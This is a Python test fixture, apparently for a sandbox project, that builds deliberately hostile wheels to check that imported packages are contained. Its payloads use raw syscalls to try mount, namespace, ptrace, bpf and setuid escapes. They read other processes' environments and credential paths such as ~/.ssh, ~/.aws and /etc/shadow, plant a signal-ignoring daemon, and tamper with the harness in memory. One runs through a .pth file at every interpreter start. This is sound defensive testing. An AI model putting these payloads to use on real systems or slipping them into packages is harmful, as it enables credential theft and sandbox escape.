"""A distribution that turns hostile when it is imported, and one whose `.pth` does at every start.

What it tries it leaves in `sys.evil_found`, where a run of the same zygote reads it. Python 3.8.
"""

from __future__ import annotations

from pathlib import Path

from tests.supply_fixtures import make_wheel

__all__ = ["READ", "make_hostile_wheels"]

READ = "import sys, hostile\ndef step(x):\n    return sys.evil_found\n"
"""The step: its import makes the zygote preload the package."""

_ATTACKS = r"""
import ctypes, errno, glob, os, signal, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
FOUND = sys.evil_found = getattr(sys, "evil_found", {})
def T(name, f, ok=lambda r: True):
    try: r = f()
    except BaseException as e:
        FOUND[name] = 'DENIED:%s:%s' % (type(e).__name__, str(e)[:60])
        return
    FOUND[name] = ('ESCAPED:%r' % (r,))[:200] if ok(r) else 'DENIED:harmless'
def S(nr, *a):
    a = [ctypes.c_ulong(x & (2**64-1)) if isinstance(x, int) else x for x in a]
    r = libc.syscall(ctypes.c_long(nr), *a)
    if r == -1: e = ctypes.get_errno(); raise OSError(e, os.strerror(e))
    return r
b = lambda s: ctypes.c_char_p(s.encode())
N = ctypes.c_void_p(None)
HERE = os.path.dirname(os.path.abspath(__file__))
SHEPHERD = os.getppid()
T('environ', lambda: dict(os.environ), lambda r: 'ORQ_CANARY' in r)
def any_environ():
    hits = []
    for p in glob.glob('/proc/[0-9]*/environ'):
        try:
            if b'ORQ_CANARY' in open(p, 'rb').read(): hits.append(p)
        except OSError: pass
    return hits
T('environ-of-others', any_environ, bool)
T('root-home', lambda: os.listdir('/root'))
T('write-package', lambda: open(os.path.join(HERE, 'x.pth'), 'w').write('import os'))
T('write-self', lambda: open(__file__, 'a').write('#'))
T('chmod-package', lambda: os.chmod(__file__, 0o777))
T('remount-usr', lambda: S(165, b('none'), b('/usr'), N, 32 | 4096, N))
T('remount-root', lambda: S(165, b('none'), b('/'), N, 32 | 4096, N))
T('umount-usr', lambda: S(166, b('/usr'), 2))
class A(ctypes.Structure): _fields_ = [(n, ctypes.c_uint64) for n in 'abcd']
T('setattr-rw', lambda: S(442, -100, b(HERE), 0, ctypes.byref(A(0, 1, 0, 0)), 32))
T('open-tree', lambda: S(428, -100, b('/usr'), 1))
T('pivot', lambda: S(155, b('/'), b('/')))
T('chroot', lambda: os.chroot('/tmp'))
T('unshare-net', lambda: S(272, 0x40000000))
T('unshare-all', lambda: S(272, 0x7e020000))
T('setns-0', lambda: S(308, os.open('/proc/self/ns/net', 0), 0))
T('inet', lambda: socket.socket(socket.AF_INET))
T('netlink', lambda: socket.socket(16, 3, 0))
T('abstract', lambda: socket.socket(socket.AF_UNIX).connect(chr(0) + '/orq-canary'))
T('ptrace', lambda: S(101, 16, SHEPHERD, 0, 0))
T('kill-shepherd', lambda: os.kill(SHEPHERD, 0) if SHEPHERD else 1/0)
def kill_any():
    hits = []
    for p in range(2, 32768):
        if p == os.getpid(): continue
        try: os.kill(p, 0); hits.append(p)
        except OSError: pass
    return hits
T('kill-any', kill_any, bool)
T('io-ports', lambda: S(172, 3))
T('bpf', lambda: S(321, 0, 0, 0))
T('keys', lambda: S(250, 0, -3 & 0xffffffff, 0))
T('set-id', lambda: os.close(os.open('/tmp/s', os.O_CREAT | os.O_WRONLY, 0o4755)))
T('setuid', lambda: os.setuid(0))
def of_the_maker(command):
    import fcntl, struct
    for n in range(3, 256):
        try: line = socket.socket(fileno=os.dup(n))
        except OSError: continue
        return fcntl.ioctl(struct.unpack('i', line.getsockopt(1, 77, 4))[0], command)
    raise OSError('no socket')
for n in range(0xff01, 0xff0b): T('namespace-%x-of-the-host' % n, lambda: of_the_maker(n))
import resource
T('endless-processes', lambda: resource.getrlimit(6)[1], lambda most: not 0 < most < 100000)
got = ctypes.c_int(-1)
libc.prctl(1, 0, 0, 0, 0)
libc.prctl(2, ctypes.byref(got), 0, 0, 0)
FOUND['parent-death'] = 'DENIED:still 9' if got.value == 9 else 'ESCAPED:%d' % got.value
def nested():
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        out = []
        try:
            S(272, 0x10000000)  # the seal lets a user namespace through: what is it worth?
            for name, f in (('remount', lambda: S(165, b('none'), b('/usr'), N, 32 | 4096, N)),
                            ('bind-rw', lambda: (S(272, 0x00020000 | 0x08000000),
                              S(165, b(HERE), b('/tmp'), N, 4096, N), open('/tmp/x.pth', 'w'))),
                            ('sysfs', lambda: S(165, b('s'), b('/tmp'), b('sysfs'), 6, N))):
                try: f(); out.append(name)
                except BaseException: pass
        except OSError: pass
        os.write(w, ','.join(out).encode() or b'-'); os._exit(0)
    os.waitpid(pid, 0)
    return os.read(r, 100).decode()
T('nested-user-namespace', nested, lambda r: r != '-')
"""
_DAEMON = r"""
def daemon():
    pid = os.fork()
    if pid == 0:
        libc.prctl(15, b('orqevil'), 0, 0, 0)
        libc.prctl(1, 0, 0, 0, 0)
        for s in range(1, 32):
            try: signal.signal(s, signal.SIG_IGN)
            except (OSError, ValueError): pass
        try: os.setsid()
        except OSError: pass
        if os.fork(): os._exit(0)
        import time
        for n in range(3, 1024):
            try: os.close(n)
            except OSError: pass
        time.sleep(120); os._exit(0)
    os.waitpid(pid, 0)
daemon()
"""
_STEALS = r"""
import glob, os, sys
loot = {}
homes = glob.glob("/tmp/orq-mode-*/home/private") + glob.glob("/var/tmp/orq-mode-*/home/private")
for name in ["~/.ssh", "~/.aws", "~/.config", "~/.kube", "/etc/shadow", "/root", *homes]:
    path = os.path.expanduser(name)
    try: loot[name] = os.listdir(path) if os.path.isdir(path) else open(path).read()
    except OSError: pass
if "ORQ_CANARY" in os.environ: loot["environ"] = dict(os.environ)
try:
    import socket
    socket.create_connection(("127.0.0.1", 9), 1)
    loot["network"] = "reached"
except ConnectionRefusedError: loot["network"] = "reached"
except OSError: pass
sys.litellm_loot = loot
"""
_TAMPERS = r"""
# the harness shares this process: what it can do to its own zygote, it can do
import gc, json, os, sys
hits = []
for thing in gc.get_objects():
    name = getattr(thing, "__name__", "")
    if name == "orq_sandbox.wire" and hasattr(thing, "frame"):
        thing.frame = lambda kind, payload=b"": b"\xff" * 64
        hits.append(name)
sys.evil_found = {"tampered": hits}
"""


def make_hostile_wheels(folder: Path) -> None:
    """`hostile` attacks at its import, `thief` at every start, `saboteur` our own code."""
    make_wheel(folder, "hostile", files={"hostile.py": _ATTACKS + _DAEMON})
    make_wheel(
        folder,
        "thief",
        files={"litellm_init.pth": f"import sys; exec({_STEALS!r})\n", "thief.py": ""},
    )
    make_wheel(folder, "saboteur", files={"saboteur.py": _TAMPERS})
    make_wheel(
        folder,
        "hangs",
        files={"hangs.py": "import time\nwhile True:\n    time.sleep(600)\n"},
    )
